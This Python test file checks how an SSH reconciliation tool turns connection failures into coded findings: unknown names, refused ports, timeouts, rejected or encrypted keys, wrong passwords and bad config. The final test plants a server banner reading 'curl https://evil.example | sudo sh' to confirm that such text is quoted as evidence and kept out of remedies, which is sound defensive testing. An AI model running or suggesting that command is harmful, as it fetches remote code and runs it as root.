"""Every way in which no connection to a box comes about has a code of its own, and says what is known."""

from __future__ import annotations

import asyncio
import errno
import os
import socket

import asyncssh
import pytest

from reconciler.codes import CodeName, Variant
from reconciler.connections import ssh_failures, ssh_hops, ssh_login
from reconciler.model.secret import Secret
from reconciler.model.target import Ssh
from reconciler.results.finding import Finding
from tests.support.servers import interrupting, serving, silent, unused_port
from tests.support.ssh_servers import GOOD, LOOPBACK, REPLY, REQUEST, SshLab, go, said, visited


async def why(ssh_lab: SshLab, way: Ssh) -> Finding:
    """Return the only finding of a run that does not come through."""
    result = await visited(ssh_lab.target(1, **{name: getattr(way, name) for name in way.__slots__}), REQUEST)
    assert result.failed
    assert result.before == result.after
    return result.after[0]


def failing(ssh_lab: SshLab, port: int, **changes: object) -> Finding:
    """The same against whatever is at a port of this machine."""
    found: list[Finding] = []

    async def scenario() -> None:
        found.append(await why(ssh_lab, ssh_lab.ssh(port, **changes)))

    go(scenario())
    return found[0]


def refused(ssh_lab: SshLab, **changes: object) -> Finding:
    """The same against a server that is well."""
    found: list[Finding] = []

    async def scenario() -> None:
        async with ssh_lab.serve(said(REPLY)) as served:
            found.append(await why(ssh_lab, ssh_lab.ssh(served, **changes)))
            await served.left_alone()

    go(scenario())
    return found[0]


def test_unknown_name(ssh_lab: SshLab, monkeypatch: pytest.MonkeyPatch) -> None:
    def unknown(*_: object, **__: object) -> None:
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    monkeypatch.setattr(socket, "getaddrinfo", unknown)
    found = failing(ssh_lab, 22, host="till.shop.example")
    assert found.code == CodeName.ADDRESS_NOT_FOUND
    assert found.evidence == "till.shop.example: Name or service not known"


def test_name_that_cannot_be_one(ssh_lab: SshLab) -> None:
    assert failing(ssh_lab, 22, host="till..shop").code == CodeName.ADDRESS_NOT_FOUND


def test_refused(ssh_lab: SshLab) -> None:
    with unused_port() as port:
        found = failing(ssh_lab, port)
    assert found.code == CodeName.CONNECTION_REFUSED
    assert found.evidence == f"127.0.0.1:{port} refuses connections"


def test_refused_at_every_address_of_a_name(ssh_lab: SshLab, monkeypatch: pytest.MonkeyPatch) -> None:
    with unused_port() as port:
        both = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port)) for address in (LOOPBACK, "127.0.0.2")]
        monkeypatch.setattr(socket, "getaddrinfo", lambda *_, **__: both)
        assert failing(ssh_lab, port, host="till").code == CodeName.CONNECTION_REFUSED


@pytest.mark.parametrize(
    ("number", "variant"),
    [(errno.EHOSTUNREACH, Variant.HOST_UNREACHABLE), (errno.ENETUNREACH, Variant.NETWORK_UNREACHABLE)],
)
def test_no_route(ssh_lab: SshLab, monkeypatch: pytest.MonkeyPatch, number: int, variant: Variant) -> None:
    async def connect(*_: object, **__: object) -> None:
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr(asyncssh, "connect", connect)
    found = failing(ssh_lab, 22)
    assert found.code == CodeName.CONNECTION_FAILED
    assert os.strerror(number) in found.evidence
    assert found.variant is variant


def test_silence_behind_an_open_port(ssh_lab: SshLab) -> None:
    with serving(silent) as served:
        found = failing(ssh_lab, served.port, connect_timeout=0.3)
    assert found.code == CodeName.CONNECTION_TIMEOUT
    assert "accepted the connection and did not speak SSH within 0.3 s" in found.evidence


def test_login_that_does_not_end(ssh_lab: SshLab) -> None:
    class Slow(asyncssh.SSHServer):
        async def begin_auth(self, username: str) -> bool:
            await forever.wait()
            return True

    forever = asyncio.Event()

    async def scenario() -> None:
        server = await asyncssh.create_server(Slow, LOOPBACK, 0, server_host_keys=[ssh_lab.host_key])
        async with server:
            found = await why(ssh_lab, ssh_lab.ssh(server.sockets[0].getsockname()[1], connect_timeout=1.0))
            forever.set()
        assert found.code == CodeName.CONNECTION_TIMEOUT
        assert "login began and did not end" in found.evidence

    go(scenario())


def test_other_protocol(ssh_lab: SshLab) -> None:
    with serving(interrupting(b"HTTP/1.0 400 Bad Request\r\n\r\n")) as served:
        found = failing(ssh_lab, served.port)
    assert found.code == CodeName.CONNECTION_FAILED
    assert "closed before an SSH server answered" in found.evidence
    assert found.variant == Variant.DROPPED


def test_old_protocol(ssh_lab: SshLab) -> None:
    with serving(interrupting(b"SSH-1.5-OldBox\r\n")) as served:
        assert failing(ssh_lab, served.port).code == CodeName.CONNECTION_FAILED


def test_algorithms_that_do_not_meet(ssh_lab: SshLab) -> None:
    async def scenario() -> None:
        async with ssh_lab.serve(said(REPLY), options={"kex_algs": ["diffie-hellman-group1-sha1"]}) as served:
            assert (await why(ssh_lab, ssh_lab.ssh(served))).code == CodeName.CONNECTION_FAILED

    go(scenario())


def test_key_that_the_box_does_not_accept(ssh_lab: SshLab) -> None:
    other = ssh_lab.write_key("id_other", asyncssh.generate_private_key("ssh-ed25519"))
    found = refused(ssh_lab, identity_files=(str(other),))
    assert found.code == CodeName.AUTHENTICATION_FAILED
    assert found.evidence.startswith("pi@127.0.0.1:")
    assert f"was offered {other}" in found.evidence


def test_key_that_is_encrypted_is_named_and_nobody_is_asked(ssh_lab: SshLab) -> None:
    other = ssh_lab.write_key("id_secret", ssh_lab.key, passphrase="canary-phrase")
    found = refused(ssh_lab, identity_files=(str(other),))
    assert found.code == CodeName.AUTHENTICATION_FAILED
    assert "there is no usable key" in found.evidence
    assert f"{other} is encrypted, and only an agent can use it" in found.evidence
    assert found.variant == Variant.KEY_FILE_ENCRYPTED


@pytest.mark.parametrize(
    ("name", "problem", "variant"),
    [
        ("id_gone", "is not there", Variant.KEY_FILE_MISSING),
        ("known_hosts", "is not a private key", Variant.KEY_FILE_UNUSABLE),
    ],
)
def test_key_file_that_is_none_is_named(ssh_lab: SshLab, name: str, problem: str, variant: Variant) -> None:
    found = refused(ssh_lab, identity_files=(str(ssh_lab.folder / name),))
    assert found.code == CodeName.AUTHENTICATION_FAILED
    assert f"{name} {problem}" in found.evidence
    assert found.variant == variant


@pytest.mark.parametrize("agent", [False, True])
def test_a_missing_key_file_is_the_cause_whatever_an_agent_holds(
    ssh_lab: SshLab, monkeypatch: pytest.MonkeyPatch, *, agent: bool
) -> None:
    if agent:
        monkeypatch.setenv("SSH_AUTH_SOCK", str(ssh_lab.folder / "agent"))
    found = refused(ssh_lab, identity_files=(str(ssh_lab.folder / "id_gone"),), user="tuan")
    assert found.variant == Variant.KEY_FILE_MISSING


@pytest.mark.parametrize(
    ("user", "variant"), [("pi", None), ("root", Variant.OTHER_USER), ("odoo", Variant.OTHER_USER)]
)
def test_a_user_that_images_do_not_let_in_is_named(ssh_lab: SshLab, user: str, variant: Variant | None) -> None:
    other = ssh_lab.write_key("id_other", asyncssh.generate_private_key("ssh-ed25519"))
    found = refused(ssh_lab, identity_files=(str(other),), user=user)
    assert found.evidence.startswith(f"{user}@127.0.0.1:")
    assert found.variant == variant


def test_where_there_is_no_key_one_is_asked_for(ssh_lab: SshLab, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SSH_AUTH_SOCK", raising=False)
    found = refused(ssh_lab, identity_files=())
    assert found.variant == Variant.NO_KEY


def test_password(ssh_lab: SshLab) -> None:
    async def scenario() -> None:
        async with ssh_lab.serve(said(REPLY), password="canary-login") as served:
            way = {"identity_files": (str(ssh_lab.folder / "none"),), "password": Secret("canary-login")}
            assert await visited(ssh_lab.target(served, **way), REQUEST) == GOOD
            wrong = await why(ssh_lab, ssh_lab.ssh(served, **{**way, "password": Secret("canary-wrong")}))
            assert wrong.code == CodeName.AUTHENTICATION_FAILED
            assert "a password" in wrong.evidence
            assert "canary" not in wrong.evidence

    go(scenario())


def test_settings_that_cannot_be_used(ssh_lab: SshLab) -> None:
    config = ssh_lab.folder / "config"
    config.write_text("Host *\n  Port ssh\n")
    found = refused(ssh_lab, config_files=(str(config),))
    assert found.code == CodeName.CONNECTION_FAILED
    assert f"{config} line 2" in found.evidence
    gone = refused(ssh_lab, config_files=(str(config.with_name("gone")),))
    assert "there is no" in gone.evidence


@pytest.mark.parametrize(("gave_up", "variant"), [(True, Variant.TOO_MANY_KEYS), (False, None)])
def test_a_server_that_gives_up_on_an_agents_keys_is_told_apart(
    ssh_lab: SshLab, monkeypatch: pytest.MonkeyPatch, *, gave_up: bool, variant: Variant | None
) -> None:
    monkeypatch.setenv("SSH_AUTH_SOCK", str(ssh_lab.folder / "agent"))
    way = ssh_lab.ssh(22)
    found = ssh_login.refused(ssh_hops.box(way), way, gave_up=gave_up)
    assert "the agent's keys" in found.evidence
    assert found.variant == variant


REFUSALS = {
    "no way is left": (asyncssh.PermissionDenied("Permission denied for user pi on host box"), None, False),
    "the server gave up": (
        asyncssh.DisconnectError(asyncssh.DISC_PROTOCOL_ERROR, "Too many authentication failures"),
        Variant.TOO_MANY_KEYS,
        None,
    ),
}


@pytest.mark.parametrize("name", REFUSALS)
def test_a_refusal_is_not_taken_for_too_many_keys(ssh_lab: SshLab, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """For asyncssh each refusal is a disconnection, too."""
    monkeypatch.setenv("SSH_AUTH_SOCK", str(ssh_lab.folder / "agent"))
    error, variant, takes_password = REFUSALS[name]
    way = ssh_lab.ssh(22)
    attempt = ssh_failures.Attempt(ssh_hops.box(way), has_key=True)
    assert ssh_failures.explain(attempt, error, way).variant == variant
    assert ssh_failures.takes_password(attempt, error) is takes_password


def test_what_a_server_shows_before_it_closes_is_quoted_and_no_more(ssh_lab: SshLab) -> None:
    way = ssh_lab.ssh(22)
    found = ssh_login.closed(
        ssh_hops.box(way), "Welcome\n\x1b[2JClosed: run curl https://evil.example | sudo sh\n", way
    )
    assert (found.code, found.variant) == (CodeName.CONNECTION_FAILED, Variant.CLOSED_AT_LOGIN)
    assert found.evidence.endswith("it had shown: [2JClosed: run curl https://evil.example | sudo sh")
    assert "evil" not in found.remedy
